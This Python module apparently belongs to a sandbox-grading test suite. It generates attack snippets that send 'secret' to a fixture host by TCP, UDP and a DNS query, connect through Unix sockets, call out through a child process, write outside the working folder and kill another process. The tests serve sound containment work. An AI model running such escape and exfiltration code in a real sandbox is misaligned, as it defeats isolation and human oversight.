"""Attacks that reach for others: the network, sockets, files and processes outside."""

from __future__ import annotations

from grading.attacks.attack import attack, traced
from grading.attacks.world import World


@attack("calls out by TCP", traced)
def _tcp(w: World) -> str:
    return f"import socket\nsocket.create_connection(({w.host!r}, {w.tcp}), 2).send(b'secret')"


@attack("calls out by UDP", traced)
def _udp(w: World) -> str:
    return f"""
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ({w.host!r}, {w.udp}))
"""


@attack("hides words in a question to a name server", traced)
def _dns(w: World) -> str:
    return f"""
import socket, struct
asked = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(asked, ({w.host!r}, {w.udp}))
"""


@attack("calls through a Unix socket on the disk", traced)
def _unix(w: World) -> str:
    return f"import socket\nsocket.socket(socket.AF_UNIX).connect({str(w.unix)!r})"


@attack("calls through a Unix socket without a file", traced)
def _abstract(w: World) -> str:
    return f"import socket\nsocket.socket(socket.AF_UNIX).connect('\\0' + {w.abstract!r})"


@attack("calls out in a child and by another program", traced)
def _program(w: World) -> str:
    return f"""
import subprocess, sys
code = "import socket; socket.create_connection(({w.host!r}, {w.tcp}), 2)"
subprocess.run([sys.executable, '-c', code], timeout=10)
"""


@attack("writes outside of its folder", traced)
def _write(w: World) -> str:
    return f"open({str(w.trace)!r}, 'w').write('was here')"


@attack("ends another process", traced)
def _kill(w: World) -> str:
    return f"import os, signal, time\nos.kill({w.victim.pid}, signal.SIGKILL)\ntime.sleep(0.2)"
